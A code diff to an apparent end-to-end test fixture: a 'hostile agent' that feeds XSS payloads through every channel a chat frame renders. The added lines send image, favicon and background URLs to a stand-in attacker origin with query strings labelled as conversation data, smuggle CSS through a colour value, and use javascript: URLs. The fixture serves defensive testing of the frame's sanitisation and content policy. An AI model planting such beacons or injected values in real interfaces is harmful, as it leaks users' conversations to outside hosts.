@@ -1,17 +1,22 @@
 // A hostile agent for the XSS suite (`--agent e2e/agents/hostile.mjs`, assistant id `hostile`).
 // Every answer carries the payloads through each channel the frame renders: answer text,
-// reasoning, a tool step (title, input, output, error), a web-search result list, a widget (text,
-// markdown, labels, options, image, actions) and an invalid widget. The user's message (and so the
-// thread title) is the suite's to choose.
+// reasoning, a tool step (title, input, output, error), a web-search result list (with favicons),
+// a widget (text, markdown, labels, options, images, backgrounds, actions), an invalid widget and
+// message image parts.
+// The user's message (and so the thread title) is the suite's to choose.
 import { payloads } from './payloads.mjs'
 
 const EVIL = process.env.HOSTILE_EVIL_ORIGIN ?? 'http://127.0.0.1:9'
+// The same attacker over https: (the scheme the frame CSP once allowed for images).
+const HTTPS = EVIL.replace(/^http:/, 'https:')
 
 function widget(list) {
   return {
     type: 'Card',
-    background: `url(${EVIL}/leak.png)`,
+    background: `url(${HTTPS}/widget-bg.png?d=1)`,
     children: [
+      { type: 'Image', src: `${HTTPS}/widget.png?d=the%20conversation`, alt: 'https widget image' },
+      { type: 'Box', background: `red;background-image:url(${HTTPS}/widget-box.png?d=1)`, children: [{ type: 'Text', value: 'https box' }] },
       { type: 'Title', value: list[0], color: `red;background:url(${EVIL}/t.png)` },
       ...list.slice(0, 20).map((p) => ({ type: 'Text', value: p })),
       { type: 'Markdown', value: list.join('\n\n') },
@@ -44,13 +49,15 @@ export default {
     yield {
       type: 'tool_end',
       id: 'hostile-search',
-      output: { results: list.map((p, i) => ({ title: p, url: i % 2 ? `javascript:window.__pwned=${i}` : `${EVIL}/r${i}`, snippet: p })) },
+      output: { results: list.map((p, i) => ({ title: p, url: i % 2 ? `javascript:window.__pwned=${i}` : `${EVIL}/r${i}`, snippet: p, favicon: `${HTTPS}/favicon${i}.png?d=1` })) },
     }
     yield { type: 'tool_start', id: 'hostile-program', name: 'run_program', title: list[6], input: { code: list.join('\n') } }
     yield { type: 'tool_end', id: 'hostile-program', output: { stdout: list.join('\n') } }
     for (const p of list) yield { type: 'text', text: p + '\n\n' }
     yield { type: 'widget', id: 'hostile-widget', title: list[7], widget: widget(list) }
     yield { type: 'widget', id: 'hostile-invalid', widget: { type: 'Card', children: [{ type: list[0] }] } }
+    yield { type: 'image', url: `${HTTPS}/message.png?d=the%20conversation` }
+    yield { type: 'image', url: 'javascript:window.__pwned=1' }
     yield { type: 'text', text: `\n\nEcho: ${ctx.input.text}` }
   },
 }
